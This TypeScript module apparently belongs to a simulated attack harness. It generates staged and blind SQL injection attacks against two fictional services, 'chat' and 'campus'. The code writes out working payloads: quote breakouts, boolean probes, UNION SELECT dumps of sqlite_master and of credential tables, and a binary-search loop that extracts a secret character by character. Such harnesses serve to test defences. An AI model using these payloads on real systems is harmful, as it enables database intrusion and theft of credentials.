/** SQL injection in stages: probe, true and false, the list of tables, one table, another one; and blind. */
import type { Person, Reply, Service } from '../person.ts';
import { condition, ending, mutatedSql, nested } from '../mutate/sql.ts';
import type { Attack, Attacker } from './scene.ts';

interface Target {
  readonly service: Service;
  /** What the search surely finds. */
  readonly found: string;
  /** What stands in an answer only when something was found. */
  readonly shown: string;
  readonly tables: readonly (readonly [table: string, one: string, other: string])[];
}

const TARGETS: Readonly<Record<Service, Target>> = {
  chat: {
    service: 'chat',
    found: 'Welcome',
    shown: 'resident1',
    tables: [
      ['vault', 'owner', 'secret'],
      ['users', 'login', 'recovery'],
    ],
  },
  campus: {
    service: 'campus',
    found: 'Statistics',
    shown: 'professor.lin',
    tables: [
      ['payroll', 'person', 'account'],
      ['users', 'login', 'recovery'],
    ],
  },
};

type Ask = (value: string) => Promise<string>;

async function searcher(attacker: Attacker, { service }: Target): Promise<Ask> {
  const text = (reply: Reply): string => reply.text;
  if (service === 'campus') {
    const person = attacker.stranger('campus');
    return async (value) => text(await attacker.getRaw(person, '/courses', 'search', value));
  }
  const person = await attacker.member('chat');
  const isJson = attacker.random.chance(0.4);
  return async (value) =>
    text(
      await (isJson
        ? attacker.postJson(person, '/api/search', { q: value })
        : attacker.getRaw(person, '/api/search', 'q', value)),
    );
}

/** The quote that leaves the service's literal, then rewritten SQL. */
export function breakOut(found: string, sql: string, attacker: Pick<Attacker, 'random'>): string {
  return `${found}%' ${mutatedSql(sql, attacker.random)}${ending(attacker.random)}`;
}

export function unionDump(
  [table, one, other]: readonly [string, string, string],
  attacker: Pick<Attacker, 'random'>,
): string {
  const { random } = attacker;
  const word = random.pick(['UNION SELECT', 'UNION ALL SELECT', 'UNION SELECT DISTINCT']);
  const columns = random.pick([
    `1,${one},${other},4`,
    `9,${one},${one} || ':' || ${other},NULL`,
    `2,'${random.letters(3)}',${other},3`,
  ]);
  return breakOut(random.letters(6), `${word} ${columns} FROM ${nested(table, random)}`, attacker);
}

async function staged(attacker: Attacker, target: Target, ask: Ask): Promise<void> {
  const { random } = attacker;
  await ask(`${target.found}'`);
  await ask(breakOut(target.found, `AND ${condition(true, random)}`, attacker));
  await ask(breakOut(target.found, `AND ${condition(false, random)}`, attacker));
  await ask(breakOut(random.letters(6), 'UNION SELECT 1,name,sql,4 FROM sqlite_master', attacker));
  for (const table of target.tables) await ask(unionDump(table, attacker));
  const [[table, , secret] = ['users', '', 'recovery']] = target.tables;
  await ask(breakOut(target.found, `AND json_extract('{}',(SELECT ${secret} FROM ${table}))`, attacker));
}

async function blind(attacker: Attacker, target: Target, ask: Ask): Promise<void> {
  const [[table, , secret] = ['users', '', 'recovery']] = target.tables;
  const holds = async (sql: string): Promise<boolean> =>
    (await ask(breakOut(target.found, `AND ${sql}`, attacker))).includes(target.shown);
  if (!(await holds('1=1')) || (await holds('1=2'))) return; // no difference to read from
  let known = '';
  for (let at = 1; at <= 7; at++) {
    let [low, high] = [48, 122];
    while (low < high) {
      const middle = Math.floor((low + high) / 2);
      const isAbove = await holds(`unicode(substr((SELECT ${secret} FROM ${table} LIMIT 1),${at},1))>${middle}`);
      if (isAbove) low = middle + 1;
      else high = middle;
    }
    known += String.fromCharCode(low);
  }
  attacker.attempt.derived(known);
}

const overHttp = (name: string, service: Service, how: typeof staged): Attack => ({
  name,
  isCovered: true,
  async run(attacker) {
    const target = TARGETS[service];
    await how(attacker, target, await searcher(attacker, target));
  },
});

const overWebSocket: Attack = {
  name: 'sql-injection-websocket',
  isCovered: true,
  async run(attacker) {
    const person: Person = await attacker.member('chat');
    let ref = 1;
    await staged(
      attacker,
      TARGETS.chat,
      async (q) => (await attacker.say(person, { type: 'search', ref: ref++, q }))?.raw ?? '',
    );
  },
};

export const SQL_ATTACKS: readonly Attack[] = [
  overHttp('sql-injection-chat', 'chat', staged),
  overHttp('sql-injection-campus', 'campus', staged),
  overHttp('sql-blind-chat', 'chat', blind),
  overHttp('sql-blind-campus', 'campus', blind),
  overWebSocket,
];
